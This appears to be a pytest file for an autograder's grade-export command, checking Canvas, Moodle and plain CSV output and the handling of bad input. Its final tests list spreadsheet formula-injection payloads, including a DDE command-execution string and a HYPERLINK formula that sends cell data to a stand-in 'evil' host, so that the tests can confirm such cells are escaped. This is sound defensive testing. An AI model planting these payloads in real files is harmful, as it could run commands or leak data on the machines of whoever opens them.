"""``autograde export``: grades.csv to Canvas, Moodle and plain CSV (no notebook runs)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from autograde.cli import EXIT_USAGE, main
from autograde.core.errors import UsageError
from autograde.core.export import FORMATS, GradeRow, export_grades, read_grades, status_counts
from autograde.core.grading import STATUSES

GRADES = """\
student,assignment,test_add,test_mean,explain,total,max_total,status,reason,seconds
ann,01_dp,2,3,,5,5,graded,,3.1
bob,01_dp,2,0,,2,5,memory,cell 4 ran out of memory,2.0
bob,02_fair,1,,,1,4,graded,,1.5
cy@uni.edu,01_dp,0,0,,0,5,invalid_notebook,not JSON,0.0
"""


@pytest.fixture
def grades_dir(tmp_path: Path) -> Path:
    (tmp_path / "grades.csv").write_text(GRADES, encoding="utf-8")
    return tmp_path


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_canvas_has_the_identity_columns_and_points_possible(grades_dir):
    rows = table(export_grades(read_grades(grades_dir / "grades.csv"), "canvas"))
    assert rows[0] == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "01_dp",
        "02_fair",
    ]
    assert rows[1] == ["Points Possible", "", "", "", "", "5", "4"]
    assert rows[2] == ["ann", "", "", "ann", "", "5", ""]
    assert rows[3] == ["bob", "", "", "bob", "", "2", "1"]
    assert rows[4][0] == "cy@uni.edu" and rows[4][5] == "0"


def test_moodle_has_one_identifier_and_one_column_per_assignment(grades_dir):
    rows = table(export_grades(read_grades(grades_dir / "grades.csv"), "moodle"))
    assert rows == [
        ["Identifier", "01_dp", "02_fair"],
        ["ann", "5", ""],
        ["bob", "2", "1"],
        ["cy@uni.edu", "0", ""],
    ]


def test_plain_keeps_every_status(grades_dir):
    rows = table(export_grades(read_grades(grades_dir / "grades.csv"), "plain"))
    assert rows[0] == ["student", "assignment", "total", "max", "status"]
    assert ["bob", "01_dp", "2", "5", "memory"] in rows
    assert {r[4] for r in rows[1:]} <= set(STATUSES)
    assert status_counts(read_grades(grades_dir / "grades.csv")) == (
        "graded 2, memory 1, invalid_notebook 1"
    )


def test_cli_writes_a_file_or_stdout_outside_any_course(grades_dir, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)  # no solutions/ here: export needs no course
    out = tmp_path / "lms" / "canvas.csv"
    assert main(["export", str(grades_dir), "--format", "canvas", "--out", str(out)]) == 0
    assert out.read_text().startswith("Student,ID,SIS User ID,SIS Login ID,Section,01_dp")
    assert "2 submission(s) not plainly graded" in capsys.readouterr().err
    assert main(["export", str(grades_dir / "grades.csv"), "--format", "plain"]) == 0
    assert capsys.readouterr().out.splitlines()[1] == "ann,01_dp,5,5,graded"


def test_bad_input_is_a_usage_error(tmp_path, capsys):
    assert main(["export", str(tmp_path), "--format", "moodle"]) == EXIT_USAGE
    assert "does not exist" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_info:
        main(["export", str(tmp_path), "--format", "blackboard"])
    assert exit_info.value.code == EXIT_USAGE
    bad = tmp_path / "grades.csv"
    for text, match in [
        ("student,total\nann,5\n", "no column"),
        (GRADES.replace(",5,5,graded", ",five,5,graded"), "must be numbers"),
        (GRADES + "ann,01_dp,,,,1,5,graded,,1\n", "appears twice"),
    ]:
        bad.write_text(text)
        with pytest.raises(UsageError, match=match):
            read_grades(bad)
    assert set(FORMATS) == {"canvas", "moodle", "plain"}


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&A2,"x")', "+1+1", "-rf", "@SUM(1)"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_cell_of_an_export_starts_a_spreadsheet_formula(fmt):
    # Student names are folder names: one named like a formula ran in the instructor's Excel.
    rows = [GradeRow(name, "01_dp", 1.0, 5.0, "graded") for name in [*FORMULAS, "ann"]]
    cells = [cell for row in table(export_grades(rows, fmt)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert {f"'{name}" for name in FORMULAS} <= set(cells) and "ann" in cells


def test_grades_csv_does_not_start_a_spreadsheet_formula(tmp_path):
    from autograde.core.grading import GradeResult
    from autograde.core.reports import write_grades_csv
    from autograde.core.spec import AssignmentSpec

    spec = AssignmentSpec("01_dp", (), (), ())
    rows = [(name, GradeResult("p", "01_dp", "graded", reason=name)) for name in FORMULAS]
    write_grades_csv(tmp_path / "grades.csv", rows, {"01_dp": spec})
    cells = [c for row in table((tmp_path / "grades.csv").read_text()) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert sorted(r.student for r in read_grades(tmp_path / "grades.csv")) == sorted(
        f"'{name}" for name in FORMULAS
    )
